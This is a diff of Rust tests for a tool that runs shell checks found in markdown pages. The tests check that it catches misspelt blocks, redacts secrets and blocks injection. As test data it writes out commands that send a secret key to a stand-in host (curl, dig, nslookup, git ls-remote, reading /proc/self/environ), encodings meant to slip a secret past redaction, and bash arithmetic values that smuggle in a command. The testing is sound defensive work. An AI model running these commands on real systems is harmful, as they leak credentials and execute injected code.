@@ -173,6 +173,81 @@ fn a_command_that_kills_its_keeper_does_not_outlive_it() {
 }
 
 #[test]
+fn a_command_that_stops_its_keeper_has_no_more_time_than_others() {
+    let stops = [
+        ("once", "kill -STOP $PPID; sleep 98773"),
+        ("again", "trap '' TERM; setsid sh -c \"while :; do kill -STOP $PPID; done\" & sleep 98773"),
+    ];
+    let page: String = stops
+        .iter()
+        .map(|(name, script)| fence(&format!("check=write name={name} timeout=1 excludeFromRunAll=true"), script))
+        .collect();
+    let repo = Repo::with(&(page + &fence("check=read name=next", "true")));
+    let before = std::time::Instant::now();
+    let said = repo.approved(&["--jobs", "1"], &[]);
+    assert!(before.elapsed() < std::time::Duration::from_secs(20), "{:?}", before.elapsed());
+    assert_eq!([said.status("once"), said.status("next")], ["timeout", "passed"], "{}", said.out);
+    assert!(["timeout", "error"].contains(&said.status("again").as_str()), "{}", said.out);
+    assert_eq!(processes_with("sleep\098773"), [""; 0]);
+    assert_eq!(processes_with("kill -STOP"), [""; 0]);
+}
+
+#[test]
+fn what_was_meant_to_be_a_check_is_told_and_fails() {
+    let page = fence("chek=read name=misspelt", "touch made")
+        + &fence("check=raed name=effect", "touch made")
+        + &fence("check name=bare", "touch made")
+        + &fence("check=write name=key timout=1 excludeFromRunAll=true", "touch made")
+        + "```sh check=read\ntouch made\n```\n\n<!-- chek: read name=comment -->\n```sh\ntouch made\n```\n\n"
+        + &fence("check=read name=right", "true")
+        + "```sh { check=read name=open }\ntouch made\n";
+    let repo = Repo::with(&page);
+    let said = repo.run(&["check", "--format", "json"]);
+    for name in ["misspelt", "effect", "bare", "key", "#5", "comment", "open"] {
+        assert_eq!(said.status(name), "error", "{name}");
+    }
+    assert_eq!((said.status("right").as_str(), said.code), ("passed", 4));
+    let plan = repo.run(&["check", "--plan"]);
+    for words in [
+        "error    README.md:1 misspelt: it is not understood: `chek` is not `check`, so these commands never run",
+        "open: it is not understood: this block has no end, so it never runs; close it",
+    ] {
+        assert!(plan.out.contains(words), "{words}: {}", plan.out);
+    }
+    assert_eq!(plan.code, 4);
+    let lint = repo.run(&["lint", "--select", "invalid-check", "--format", "concise"]);
+    assert_eq!(lint.out.lines().filter(|line| line.contains("invalid-check")).count(), 7, "{}", lint.out);
+    assert!(!repo.root().join("made").exists());
+    // What others write is nobody's business, and no plan of right checks fails.
+    let repo =
+        Repo::with(&(fence("name=install", "touch made") + "<!-- check: this again -->\n```sh\ntouch made\n```\n"));
+    assert_eq!([repo.run(&["check", "--plan"]).code, repo.run(&["check"]).code], [0, 0]);
+}
+
+#[test]
+fn an_operator_who_is_mistaken_is_told() {
+    let repo = Repo::with(&fence("check=read name=a", "true"));
+    assert_eq!(repo.run(&["check", "--env", "anything"]).code, 0, "no environment is known here");
+    repo.write("_ai/devops/environments/staging.md", "# Staging\n");
+    repo.write("README.md", &(fence("check=read name=a", "true") + &fence("check=read name=b env=production", "true")));
+    for known in ["staging", "production", "local"] {
+        assert_eq!(repo.run(&["check", "--env", known]).code, 0, "{known}");
+    }
+    let said = repo.run(&["check", "--env", "nonesuch"]);
+    let wanted = "no page and no check is about the environment `nonesuch`; there are production, staging";
+    assert!(said.code == 2 && said.err.contains(wanted), "{}", said.err);
+    for given in ["KEY=tops3cret", "tops3cret value", "", "-tops3cret"] {
+        let option = format!("--allow-secret={given}");
+        for command in
+            [&["check", &option][..], &["check", "--plan", &option], &["gate", "env-ready", "--run", &option]]
+        {
+            let said = repo.run(command);
+            assert!(said.code == 2 && !(said.out + &said.err).contains("tops3cret"), "{command:?}: {}", said.err);
+        }
+    }
+}
+
+#[test]
 fn an_interrupted_run_leaves_nothing() {
     let repo = Repo::with(&fence("check=read name=a", "sleep 98771"));
     let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_devops-docs"))
@@ -351,6 +426,111 @@ fn a_secret_is_shown_in_no_form() {
     {
         assert!(!all.contains(form), "{form} in {all}");
     }
+}
+
+/// Programs that write a secret in another way, each with what must be seen.
+const WRITERS: &[(&str, &str)] = &[
+    (
+        "printf %s \"$KEY\" | python3 -c 'import sys,json; print(json.dumps(json.dumps(sys.stdin.read())))'",
+        "\"\\\"***\\\"\"",
+    ),
+    ("printf %s \"$KEY\" | python3 -c 'import sys,urllib.parse; print(urllib.parse.quote(sys.stdin.read()))'", "***"),
+    (
+        "printf %s \"$KEY\" | python3 -c 'import sys,urllib.parse; print(urllib.parse.quote(sys.stdin.read()).lower())'",
+        "***",
+    ),
+    ("printf %s \"$KEY\" | python3 -c 'import sys,shlex; print(shlex.quote(sys.stdin.read()))'", "'***'"),
+    ("printf '%q\\n' \"$KEY\"", "***"),
+    ("echo \"${KEY@Q}\"", "'***'"),
+    ("declare -p KEY | cut -d = -f 2-", "\"***\""),
+    ("printf %s \"$KEY\" | base32 -w 0", "***"),
+    ("printf %s \"$KEY\" | base64 -w 0 | base64", "***"),
+    ("printf %s \"$KEY\" | base64 | base64", "***"),
+    ("printf %s \"xy $KEY\" | base64 -w 20", "eHkg***"),
+    ("printf %s \"$KEY\" | od -An -tx1", "***"),
+    ("printf %s \"$KEY\" | od -tx1 | head -n 3", "0000000 ***"),
+    ("printf %s \"$KEY\" | python3 -c 'import sys; print(sys.stdin.buffer.read().hex(\":\"))'", "***"),
+];
+
+#[test]
+fn a_secret_is_covered_however_a_program_writes_it() {
+    let page: String = WRITERS
+        .iter()
+        .enumerate()
+        .map(|(at, (script, _))| fence(&format!("check=read name=w{at} secrets=KEY"), script))
+        .collect();
+    let variables = [("KEY", "tops3cret/of the \"house\", $5 it's")];
+    let said = Repo::with(&page).approved(&["--allow-secret", "KEY"], &variables);
+    for (at, (script, seen)) in WRITERS.iter().enumerate() {
+        let output = said.check(&format!("w{at}"))["output"].as_str().expect("it is text").to_owned();
+        let output = output.trim().trim_end_matches('=');
+        assert!(output.starts_with(seen) && output.len() <= seen.len() + 6, "{script}: {output}");
+    }
+}
+
+#[test]
+fn a_value_that_is_evaluated_may_be_a_command() {
+    let scripts = [
+        ("compare", "[[ 'a[$(touch made)]' -eq 0 ]]"),
+        ("look-for", "[[ -v 'a[$(touch made)]' ]]"),
+        ("test", "x=$(cat value); test -v \"$x\""),
+        ("print", "x=$(cat value); printf -v \"$x\" y"),
+        ("count", "x=$(cat value); (( x ))"),
+        ("let", "x=$(cat value); let x"),
+        ("expand", "x=$(cat value); echo $((x))"),
+        ("declare", "x=$(cat value); declare -i y=$x"),
+        ("slice", "x=$(cat value); z=abc; echo ${z:x:1}"),
+        ("split", "x=$(cat value); [ $x -eq 0 ]"),
+    ];
+    let mut page: String =
+        scripts.iter().map(|(name, script)| fence(&format!("check=read name={name}"), script)).collect();
+    page.push_str(&fence(
+        "check=read name=plain",
+        "x=$(cat value); [[ -n $x && $x != b* ]] && [ \"$x\" != c ] && echo $((1 + 2))",
+    ));
+    let repo = Repo::with(&page);
+    repo.write("value", "a[$(touch made)]\n");
+    let said = repo.run(&["check", "--format", "json"]);
+    for (name, _) in scripts {
+        assert_eq!(said.status(name), "needs-approval", "{name}");
+        assert_eq!(said.check(name)["effect"], "write", "{name}");
+    }
+    assert_eq!(said.status("plain"), "passed", "{}", said.out);
+}
+
+#[test]
+fn a_secret_is_told_to_another_machine_only_with_consent() {
+    let reads = [
+        ("header", "curl -s -H \"Authorization: Bearer $KEY\" https://shop.invalid"),
+        ("name", "dig \"$KEY.shop.invalid\""),
+        ("host", "host \"$KEY.shop.invalid\""),
+        ("look-up", "nslookup \"$(printenv KEY).shop.invalid\""),
+        ("login", "git ls-remote \"https://$KEY@shop.invalid/x\""),
+        ("piped", "printenv KEY | curl -s -H @- https://shop.invalid"),
+        ("environment", "dig -f /proc/self/environ"),
+    ];
+    let mut page: String = reads
+        .iter()
+        .map(|(name, script)| fence(&format!("check=read name={name} net=true secrets=KEY"), script))
+        .collect();
+    page.push_str(&fence(
+        "check=read name=itself net=true secrets=KEY exit=any",
+        "git ls-remote ./nowhere 2>&1 | head -n 0",
+    ));
+    page.push_str(&fence("check=read name=public net=true exit=any", "ls | git ls-remote ./nowhere 2>&1 | head -n 0"));
+    let repo = Repo::with(&page);
+    let said =
+        repo.run_with(&["check", "--format", "json", "--allow-net", "--allow-secret", "KEY"], &[("KEY", "tops3cret")]);
+    for (name, _) in reads {
+        assert_eq!(
+            (said.status(name).as_str(), &said.check(name)["effect"]),
+            ("needs-approval", &"write".into()),
+            "{name}"
+        );
+    }
+    let why = said.check("name")["why"].as_str().expect("there is one").to_owned();
+    assert!(why.ends_with("may tell a secret to another machine"), "{why}");
+    assert_eq!([said.status("itself"), said.status("public")], ["passed", "passed"], "{}", said.out);
 }
 
 #[test]
